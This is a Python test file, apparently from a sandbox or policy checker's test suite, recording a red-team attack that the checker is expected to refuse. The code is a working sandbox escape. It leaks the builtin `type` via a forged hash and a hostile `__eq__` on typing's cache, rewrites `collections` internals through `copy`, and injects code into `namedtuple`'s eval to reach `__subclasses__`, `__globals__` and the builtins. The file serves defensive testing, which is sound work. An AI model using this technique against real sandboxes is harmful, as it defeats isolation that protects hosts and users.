# attack: `type` from a signature annotation (`typing.List[type]`, stored in typing's cache), handed
# to the program's own `__eq__` by a key with the same hash (the address of `type`, computed from
# `id(int)`); then `type` makes the classes that rewrite `collections` and inject text into
# `namedtuple`'s eval (refused: a class defines no equality; red team HB of 2026-12-03).
# expect: policy
import collections, copy, typing, zwc


def probe(a: typing.List[type] = None):
    return a


box = []
adr = id(int) + 27936
hv = ((adr >> 4) | (adr << 60)) & 0xFFFFFFFFFFFFFFFF
if hv >= 2 ** 63:
    hv -= 2 ** 64


class Grab:
    def __hash__(self):
        return hv

    def __eq__(self, other):
        box.append(other)
        return True


typing.List[Grab()]          # typing's lru_cache compares the cached key (List, type) with ours
t = box[0]                   # the builtin type
u = "_" * 2
GA = t(typing.List[int])     # typing._GenericAlias: sets non-dunder attributes on its origin
al = GA(collections, (), name="n")


class FakeSys:
    def intern(self, s):
        return s


def fake_type(*args):
    if len(args) == 1:
        return str
    return t(*args)


K = t("K", (), {u + "new" + u: lambda cls, *a: al})
R = t("R", (), {u + "reduce_ex" + u: lambda self, proto: (K, (), (None, {"_sys": FakeSys(), "type": fake_type}))})
copy.copy(R())               # slot state: setattr(al, "_sys", ...) -> collections._sys, collections.type


class HBSink:
    box = []

    def grab(self):
        return 0


def d(name):
    return u + name + u


HB = "[c for c in _tuple_new." + d("self") + "." + d("base") + "." + d("subclasses") + "() if c." + d("name") + " == 'HBSink'][0]"
TY = HB + ".grab." + d("globals") + "['typing'].cast." + d("globals")
EXPR = HB + ".box.append((" + TY + "['sys'].modules['zwc._table'].TOP_LEVEL, " + TY + "['" + d("builtins") + "']))"
S = t("S", (str,), {"isidentifier": lambda s: True, d("str"): lambda s: s})
try:
    collections.namedtuple("P", [S("a=(" + EXPR + "): a #")], module="m")
except Exception as e:
    HBSink.box.append(repr(e))
TOP, BI = HBSink.box[0]
table = dict(TOP)
ga = BI["getattr"]


def compress_data_chunks(data_chunks, encoding_shifts):
    zwc.kocito([1.0])
    return ga(zwc, table["bitwise_left_shift"])(data_chunks, encoding_shifts)
